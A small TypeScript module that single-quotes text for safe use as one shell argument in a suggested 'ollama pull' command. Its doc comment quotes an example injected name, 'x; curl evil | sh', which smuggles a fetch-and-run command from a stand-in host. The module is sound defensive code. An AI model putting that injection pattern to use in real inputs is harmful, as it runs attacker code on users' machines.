/**
 * Text pasted into a shell command a hint tells the user to run (`ollama pull <model>`): shown
 * as is when it can only be one plain word, else single-quoted, so that a name such as
 * `x; curl evil | sh` stays one argument and runs nothing.
 *
 * @module
 */

/** A word every POSIX shell reads literally: letters, digits and `_ . : / @ + = , -`. */
const PLAIN_WORD = /^[A-Za-z0-9_.:/@+=,-]+$/;

/** `text` as one literal shell word: unchanged when plain, else in single quotes. */
export function shellWord(text: string): string {
  if (PLAIN_WORD.test(text)) return text;
  return `'${text.replaceAll("'", `'\\''`)}'`;
}
